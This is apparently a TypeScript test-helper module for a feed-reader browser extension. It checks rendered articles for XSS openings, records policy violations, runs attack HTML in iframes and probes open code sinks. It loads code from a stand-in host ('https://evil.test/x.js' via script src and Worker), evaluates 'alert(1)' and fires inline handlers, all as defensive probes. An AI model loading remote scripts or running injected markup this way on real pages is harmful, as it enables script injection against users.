import type { Part } from '../../security/violations';

/*
 * Functions that a driver sends into pages as text: each stands alone and uses nothing from outside itself.
 */

/** What a page has noticed since `watchPage`. */
export interface Noticed {
  calls: string[];
  policy: string[];
  /** Gone when the page has been navigated away from. */
  alive: boolean;
  title: string;
  address: string;
}

/** Puts reporters in place of what an attack would call, and listens for violations of the policy. */
export function watchPage(): void {
  const noticed = { calls: [] as string[], policy: [] as string[] };
  const page = globalThis as unknown as Record<string, unknown>;
  page.noticedByTest = noticed;
  page.lookAround = () => {
    const own =
      /^(?:a|article|aside|audio|b|bdi|button|circle|code|datalist|dd|desc|details|dialog|div|dl|dt|em|fieldset|footer|form|g|h[1-6]|header|hr|i|img|input|kbd|label|legend|li|line|link|main|mark|nav|ol|option|optgroup|output|p|path|polyline|progress|rect|script|search|section|select|small|span|strong|summary|svg|table|tbody|td|text|textarea|th|thead|time|title|tr|ul|video)$/;
    const found: string[] = [];
    for (const element of document.querySelectorAll('body *')) {
      if (element.parentElement?.closest('[data-article-body]')) continue;
      const { localName } = element;
      if (!own.test(localName)) found.push(`REQ-18 <${localName}>`);
      for (const { name, value } of element.attributes) {
        if (/^on|^(?:srcdoc|style|formaction|ping|autoplay|background|is|slot)$/.test(name)) {
          // What our own code sets through the style interface stands in the attribute, too.
          if (name !== 'style' || /url|expression|position|@import/i.test(value))
            found.push(`REQ-18 ${localName}[${name}=${value}]`);
        }
        if (/^(?:href|src|poster|action|data)$/.test(name)) {
          const { protocol } = new URL(value, location.href);
          if (!/^(?:https?|blob|mailto|tel|chrome-extension|moz-extension):$/.test(protocol))
            found.push(`REQ-29 ${localName}[${name}=${value}]`);
        }
      }
      const leads = localName === 'a' && element.getAttribute('href');
      const isInside = leads && new URL(leads, location.href).origin === location.origin;
      if (leads && isInside && !/^(?:#|[./]*(?:options|reader|popup|sidepanel)\.html)/.test(leads))
        found.push(`REQ-8 a[href=${leads}]`);
      if (localName === 'script' && !element.getAttribute('src')) found.push('REQ-18 <script> with text');
      if (/^(?:audio|video)$/.test(localName) && element.getAttribute('preload') !== 'none')
        found.push(`REQ-12 ${localName} loads by itself`);
    }
    for (const text of document.querySelectorAll(
      '#article-title, .row :is(h2, h3) a, .row p, .feed-name, .article-meta [dir], .enclosures a > span, .place > span',
    ))
      if (text.childElementCount > 0) found.push(`REQ-18 markup in ${text.className || text.localName}`);
    return [...new Set(found)];
  };
  for (const name of ['alert', 'prompt', 'confirm', 'print', 'open'])
    page[name] = (text: unknown) => void noticed.calls.push(`${name}(${String(text)})`);
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
    noticed.policy.push(`${effectiveDirective} ${blockedURI} ${sample}`),
  );
}

export function readNoticed(): Noticed {
  const noticed = (globalThis as unknown as { noticedByTest?: { calls: string[]; policy: string[] } })
    .noticedByTest;
  const seen = { calls: [...(noticed?.calls ?? [])], policy: [...(noticed?.policy ?? [])] };
  if (noticed) noticed.policy.length = 0;
  return {
    ...seen,
    alive: noticed !== undefined,
    title: document.title,
    address: location.href.split('#')[0] ?? '',
  };
}

/** Numbers of the stored entries by the mark in their titles, and the hosts of the pictures that lists show beside them. */
export async function readEntries(): Promise<{ ids: Record<string, number>; thumbHosts: string[] }> {
  const promised = <T>(request: IDBRequest<T>) =>
    new Promise<T>((done, fail) => {
      request.onsuccess = () => done(request.result);
      request.onerror = () => fail(request.error);
    });
  const database = await promised(indexedDB.open('broadsheet'));
  const rows: { id: number; title: string; image: string }[] = await promised(
    database.transaction('entries').objectStore('entries').getAll(),
  );
  database.close();
  const ids = rows.map(({ id, title }) => [/^\[[^\]]+\]/.exec(title)?.[0] ?? title, id]);
  const images = rows.map(({ image }) => image).filter((image) => URL.canParse(image));
  return { ids: Object.fromEntries(ids), thumbHosts: images.map((image) => new URL(image).hostname) };
}

/** What no text of a feed may bring onto a page of ours; [] where all is well. */
export function lookAround(): string[] {
  return (globalThis as unknown as { lookAround(): string[] }).lookAround();
}

/** What a page showed of one article. */
export interface Shown {
  mark: string;
  shown: boolean;
  parts: Part[];
  /** The picture that must come has come. */
  proven: boolean;
  /** What was wrong around the article: something on top of the toolbar, an element where text belongs, a taken name. */
  around: string[];
}

/** Opens articles one after the other, as a reader would by clicking, and looks at each from the page itself. */
export async function openArticles(
  entries: { id: number; mark: string; names: string[] }[],
): Promise<Shown[]> {
  const body = () => document.querySelector('[data-article-body]');
  const points: [number, number][] = [
    [12, 12],
    [innerWidth / 2, 8],
    [innerWidth - 12, 12],
    [12, innerHeight - 12],
    [innerWidth / 3, innerHeight / 2],
  ];
  const shownOf: Shown[] = [];
  for (const { id, mark, names } of entries) {
    location.hash = `#/all/entry/${id}`;
    const deadline = Date.now() + 10_000;
    while (!body()?.textContent?.includes(mark) && Date.now() < deadline)
      await new Promise((done) => setTimeout(done, 4));
    const article = body();
    const shown = article?.textContent?.includes(mark) ?? false;
    const proof = () => body()?.querySelector<HTMLImageElement>('img[src*="//proof.evil.test/"]');
    while (!(proof()?.complete && proof()?.naturalWidth) && Date.now() < deadline)
      await new Promise((done) => setTimeout(done, 4));
    const proven = Boolean(proof()?.complete && proof()?.naturalWidth);
    const around: string[] = [];
    for (const [x, y] of points) {
      const top = document.elementFromPoint(x, y);
      if (top && article?.contains(top))
        around.push(`REQ-4 <${top.localName}> lies over ${Math.round(x)},${Math.round(y)}`);
    }
    around.push(...(globalThis as unknown as { lookAround(): string[] }).lookAround());
    for (const name of names) {
      const taken = [(globalThis as never)[name], (document as never)[name]] as unknown[];
      if (taken.some((one) => one instanceof Element && article?.contains(one)))
        around.push(`REQ-5 took ${name}`);
    }
    const parts = Array.from(article?.querySelectorAll('*') ?? [], (element) => ({
      name: element.localName,
      namespace: element.namespaceURI ?? '',
      attributes: Object.fromEntries(Array.from(element.attributes, ({ name, value }) => [name, value])),
    })).filter(({ attributes }) => attributes.class !== 'table-frame');
    const ours = /^(?:broken|line|caption-line|stress|run-in)$/;
    for (const { attributes } of parts) if (ours.test(attributes.class ?? '')) delete attributes.class;
    shownOf.push({ mark, shown, proven, parts, around });
  }
  return shownOf;
}

export interface Rendered {
  id: string;
  parts: Part[];
  /** What came out, as markup. */
  html: string;
  /** What the second reading of the same article gave, where it differed from the first. */
  drift: string;
}

/** Renders HTML with the extension's own code, twice: the second time what the first time gave. */
export async function renderTwice(
  chunk: string,
  attacks: { id: string; html: string }[],
): Promise<Rendered[]> {
  const { renderBody } = (await import(/* @vite-ignore */ chunk)) as {
    renderBody(html: string, place: { base: string }): { content: DocumentFragment };
  };
  const holder =
    document.querySelector('[data-article-body]') ?? document.body.appendChild(document.createElement('div'));
  const render = (html: string) => {
    holder.replaceChildren(renderBody(html, { base: 'https://site.test/a.html' }).content);
    for (const frame of holder.querySelectorAll('.table-frame')) frame.replaceWith(...frame.childNodes);
    return holder.innerHTML;
  };
  return attacks.map(({ id, html }) => {
    const once = render(html);
    const parts = Array.from(holder.querySelectorAll('*'), (element) => ({
      name: element.localName,
      namespace: element.namespaceURI ?? '',
      attributes: Object.fromEntries(Array.from(element.attributes, ({ name, value }) => [name, value])),
    }));
    const twice = render(once);
    return {
      id,
      parts,
      html: once,
      drift: once === twice ? '' : `${once.slice(0, 200)} -> ${twice.slice(0, 200)}`,
    };
  });
}

/** Puts raw HTML into an ordinary page without any policy, and says in how many cases script ran. */
export async function runRaw(attacks: string[]): Promise<number> {
  let ran = 0;
  const hooked = ['alert', 'prompt', 'confirm', 'print', 'open'];
  for (const name of hooked) (globalThis as unknown as Record<string, unknown>)[name] = () => undefined;
  for (let at = 0; at < attacks.length; at += 40) {
    const frames = attacks.slice(at, at + 40).map((html) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      const inner = frame.contentWindow as unknown as Window & Record<string, unknown>;
      const state = { frame, calls: 0 };
      for (const name of hooked) inner[name] = () => void state.calls++;
      inner.document.write(html);
      for (const element of [...inner.document.querySelectorAll('*')].slice(0, 100)) {
        for (const { name } of [...element.attributes])
          if (name.startsWith('on')) element.dispatchEvent(new Event(name.slice(2)));
        const href = (element.getAttribute('href') ?? '').replace(/[^!-~]/g, '').toLowerCase();
        if (href.startsWith('javascript:')) (element as HTMLElement).click?.();
      }
      return state;
    });
    await new Promise((done) => setTimeout(done, 250));
    for (const { frame, calls } of frames) {
      if (calls > 0) ran++;
      frame.remove();
    }
  }
  return ran;
}

/** Ways from text to markup or code that the page's policy let through. */
export function openSinks(): string[] {
  const factory = (
    globalThis as unknown as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } }
  ).trustedTypes;
  const script = document.createElement('script');
  const frame = document.createElement('iframe');
  const box = document.createElement('div');
  const ways: Record<string, () => unknown> = {
    innerHTML: () => Object.assign(box, { innerHTML: '<b>x</b>' }),
    outerHTML: () => Object.assign(document.body.appendChild(box), { outerHTML: '<b>x</b>' }),
    insertAdjacentHTML: () => box.insertAdjacentHTML('beforeend', '<b>x</b>'),
    createContextualFragment: () => document.createRange().createContextualFragment('<b>x</b>'),
    'document.write': () => document.write('<b>x</b>'),
    srcdoc: () => Object.assign(frame, { srcdoc: '<b>x</b>' }),
    DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'script.src': () => Object.assign(script, { src: 'https://evil.test/x.js' }),
    'script.text': () => Object.assign(script, { text: 'alert(1)' }),
    setTimeout: () => (setTimeout as (code: unknown) => unknown)('alert(1)'),
    Worker: () => new Worker('https://evil.test/x.js'),
    createPolicy: () => (factory ? factory.createPolicy('evil', {}) : undefined),
  };
  return Object.entries(ways).flatMap(([name, run]) => {
    try {
      run();
      return [name];
    } catch {
      return [];
    }
  });
}
